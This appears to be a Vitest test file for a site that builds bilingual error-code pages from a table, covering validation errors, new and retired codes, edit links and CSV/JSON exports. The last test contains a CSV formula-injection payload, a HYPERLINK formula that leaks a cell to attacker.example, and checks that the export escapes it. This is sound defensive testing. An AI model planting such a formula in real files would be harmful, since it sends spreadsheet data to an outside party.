import { spawnSync } from 'node:child_process';
import { copyFileSync, existsSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';

/** A cold build of a small table takes about 10 s here; two agents building at once, twice that. */
const BUILD_TIMEOUT = 120_000;

/** Runs a real build into a throwaway directory so the site in dist/ is left alone. */
function buildWith(env: Record<string, string>) {
	const outDir = mkdtempSync(join(tmpdir(), 'fixture-build-'));
	const cacheDir = mkdtempSync(join(tmpdir(), 'fixture-cache-'));
	const result = spawnSync('npx', ['astro', 'build', '--outDir', outDir], {
		env: { ...process.env, ...env, ASTRO_CACHE_DIR: cacheDir, ASTRO_TELEMETRY_DISABLED: '1', NO_COLOR: '1' },
		encoding: 'utf-8',
	});
	const published = existsSync(outDir) ? readdirSync(outDir, { recursive: true }).filter((f) => String(f).endsWith('.html')) : [];
	return { status: result.status, output: `${result.stdout}${result.stderr}`, published, outDir };
}

type Build = ReturnType<typeof buildWith>;

describe('a build from a table that does not hold together', () => {
	it('stops on a malformed row, naming the file, line and code, and publishes nothing', () => {
		const table = 'tests/fixtures/tables/duplicate-code.md';
		const { status, output, published } = buildWith({ ERROR_TABLE: table });
		expect(status, output).not.toBe(0);
		expect(output).toContain(`${table}:9 (code "898001"): duplicate code`);
		expect(published).toEqual([]);
	}, BUILD_TIMEOUT);

	it('stops when the categories list a code the table does not have, and publishes nothing', () => {
		const { status, output, published } = buildWith({
			ERROR_TABLE: 'tests/fixtures/tables/markup-in-cells.md',
			ERROR_CATEGORIES: 'tests/fixtures/categories/small.yaml',
		});
		expect(status, output).not.toBe(0);
		expect(output).toContain('tests/fixtures/categories/small.yaml does not match the error table');
		expect(output).toContain('category "success" lists code 0, which is not in the table');
		expect(published).toEqual([]);
	}, BUILD_TIMEOUT);
});

describe('a build from the real table with one new server code, kept outside the project', () => {
	// What a maintainer does: add a row to the table, nothing else. No area lists the code and no
	// page text explains it yet; it must publish anyway.
	const elsewhere = mkdtempSync(join(tmpdir(), 'maintainer-checkout-'));
	const table = join(elsewhere, 'error-codes.md');
	let build: Build;
	beforeAll(() => {
		const source = readFileSync('content/error-codes.md', 'utf-8');
		const row = '\t\t<tr >\n\t\t\t<td style="text-align:center;">898099</td>\n\t\t\t<td>Quota exceeded</td>\n\t\t\t<td>超出配额</td>\n\t\t</tr>\n';
		const firstAndroid = source.indexOf('<!-- iOS SDK');
		writeFileSync(table, `${source.slice(0, firstAndroid)}${row}\t\t${source.slice(firstAndroid)}`);
		build = buildWith({ ERROR_TABLE: table });
	}, BUILD_TIMEOUT);

	const lineOfNewCode = () => readFileSync(table, 'utf-8').split('\n').findIndex((line) => line.includes('898099')) + 1;

	it('publishes the new code in both languages, in the automatic area', () => {
		const { status, output, published, outDir } = build;
		expect(relative(process.cwd(), table)).toMatch(/^\.\.\//);
		expect(status, output).toBe(0);
		expect(published).toEqual(expect.arrayContaining(['codes/898099/index.html', 'en/codes/898099/index.html']));
		expect(readFileSync(join(outDir, 'en/codes/898099/index.html'), 'utf-8')).toMatch(/href="\/en\/codes\/\?category=other"[^>]*>[\s\S]*?Other</);
		expect(readFileSync(join(outDir, 'codes/898099/index.html'), 'utf-8')).toMatch(/href="\/codes\/\?category=other"[^>]*>[\s\S]*?其他</);
		const exported = JSON.parse(readFileSync(join(outDir, 'codes.json'), 'utf-8')) as { codes: { code: number; category: string }[] };
		expect(exported.codes.find((c) => c.code === 898099)?.category).toBe('other');
	});

	it('warns, naming the code and its table line', () => {
		expect(build.output).toMatch(
			new RegExp(`1 codes are in no area of content/categories\\.yaml and are published in the automatic area "Other": 898099 \\(table line ${lineOfNewCode()}\\)`),
		);
	});

	it('ends with a content report that names the code without page text and in the automatic area', () => {
		// NO_COLOR is set for these builds: the output is plain text.
		const report = build.output.slice(build.output.indexOf('Content report:'));
		expect(report).toMatch(/^Content report: 88 codes published \(server 52, ios 12, android 24\)\./);
		expect(report).toMatch(/1 without zh-cn page text: 898099\n/);
		expect(report).toMatch(/1 without en page text: 898099\n/);
		expect(report).toMatch(new RegExp(`1 in the automatic area "other" .*: 898099 \\(table line ${lineOfNewCode()}\\)`));
	});

	it('prints no upstream MODULE_LEVEL_DIRECTIVE warning and no line per generated file', () => {
		expect(build.output).not.toContain('MODULE_LEVEL_DIRECTIVE');
		expect(build.output).not.toContain('├─');
		expect(build.output.split('\n').length).toBeLessThan(60);
	});
});

describe('a build from tables a maintainer edited in another checkout: a code gained, one lost, formulas in messages', () => {
	// A maintainer keeping the table in another checkout passes absolute paths outside this one.
	const elsewhere = mkdtempSync(join(tmpdir(), 'other-checkout-'));
	const table = join(elsewhere, 'errors.md');
	const categories = join(elsewhere, 'categories.yaml');
	let build: Build;
	beforeAll(() => {
		copyFileSync('tests/fixtures/tables/maintainer-edits.md', table);
		copyFileSync('tests/fixtures/categories/small.yaml', categories);
		build = buildWith({
			ERROR_TABLE: table,
			ERROR_CATEGORIES: categories,
			ERROR_RETIRED: 'tests/fixtures/retired/898002.yaml',
			REPO_URL: 'https://github.com/example/im-error-codes.git',
		});
	}, BUILD_TIMEOUT);

	it('reads the table and its categories from absolute paths outside the project', () => {
		expect(relative(process.cwd(), table)).toMatch(/^\.\.\//);
		const { status, output } = build;
		expect(status, output).toBe(0);
		expect(output).toContain(`4 codes loaded from ${table}`);
	});

	it('with REPO_URL, links each code page to its page text and to a new issue about it', () => {
		const links = (path: string) => {
			const page = readFileSync(join(build.outDir, path), 'utf-8');
			// Both groups are required by the pattern, so every match has them.
			return Object.fromEntries(
				[...page.matchAll(/<a href="([^"]+)"[^>]*>\s*([^<]+?)\s*<\/a>/g)].map(([, href, text]) => [text!, href!.replaceAll('&amp;', '&')]),
			);
		};
		const en = links('en/codes/0/index.html');
		expect(en['Edit this page']).toBe('https://github.com/example/im-error-codes/edit/main/content/codes/en/0.mdx');
		const report = new URL(en['Report a problem with this page']!);
		expect(`${report.origin}${report.pathname}`).toBe('https://github.com/example/im-error-codes/issues/new');
		expect(report.searchParams.get('title')).toBe('Error code 0: problem with the English page');
		expect(report.searchParams.get('body')).toContain('Page: http://127.0.0.1:4321/en/codes/0/\nCode: 0\nLanguage: English');

		// A code without page text yet: "edit" starts its file, in the reader's language.
		const zh = links('codes/898010/index.html');
		expect(zh['编辑此页']).toBe('https://github.com/example/im-error-codes/new/main/content/codes/zh-cn?filename=898010.mdx');
		expect(new URL(zh['报告此页的问题']!).searchParams.get('body')).toContain('错误码：898010');
	});

	it('publishes the new codes from the table alone and warns, naming them', () => {
		const { output, published, outDir } = build;
		expect(output).toMatch(/3 codes have no zh-cn page text yet and are published from the table alone: 898010, 898011, 898012\b/);
		expect(output).toMatch(/3 codes have no en page text yet .*: 898010, 898011, 898012\b/);
		expect(published).toEqual(expect.arrayContaining(['codes/898010/index.html', 'en/codes/898010/index.html']));
		const page = readFileSync(join(outDir, 'en/codes/898010/index.html'), 'utf-8');
		expect(page).toContain('Token expired');
		expect(page).toContain('令牌已过期');
	});

	it('keeps the removed code online, marked retired, pointing at its replacement', () => {
		const { published, outDir } = build;
		expect(published).toEqual(expect.arrayContaining(['codes/898002/index.html', 'en/codes/898002/index.html', '898002/index.html']));
		const page = readFileSync(join(outDir, 'en/codes/898002/index.html'), 'utf-8');
		expect(page).toContain('Retired');
		expect(page).toContain('Replaced by 898010 in the fixture table.');
		expect(page).toContain('href="/en/codes/898010/"');
		const exported = JSON.parse(readFileSync(join(outDir, 'codes.json'), 'utf-8')) as { codes: { code: number; status: string }[] };
		expect(exported.codes.find((c) => c.code === 898002)?.status).toBe('retired');
	});

	it('keeps the removed code findable: in the code map and in the full-text index', () => {
		const { outDir } = build;
		const map = JSON.parse(readFileSync(join(outDir, 'en/search/codes.json'), 'utf-8')) as { codes: [number, number, string][] };
		expect(map.codes.map(([code]) => code)).toEqual([0, 898002, 898010, 898011, 898012]);
		const entry = JSON.parse(readFileSync(join(outDir, 'pagefind/pagefind-entry.json'), 'utf-8')) as {
			languages: Record<string, { page_count: number }>;
		};
		expect(entry.languages['en']?.page_count).toBe(5);
	});

	it('hands the formulas to spreadsheets as text in codes.csv, and verbatim in codes.json', () => {
		const { outDir } = build;
		const rows = parseCsv<Record<string, string>>(readFileSync(join(outDir, 'codes.csv'), 'utf-8'), { columns: true, bom: true });
		const formula = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click for details")';
		expect(rows.find((r) => r['code'] === '898011')?.['message']).toBe(`'${formula}`);
		expect(rows.find((r) => r['code'] === '898012')?.['message']).toBe("'-1 retries left");
		expect(rows.find((r) => r['code'] === '0')?.['message']).toBe('success');
		const exported = JSON.parse(readFileSync(join(outDir, 'codes.json'), 'utf-8')) as { codes: { code: number; message: string }[] };
		expect(exported.codes.find((c) => c.code === 898011)?.message).toBe(formula);
	});
});
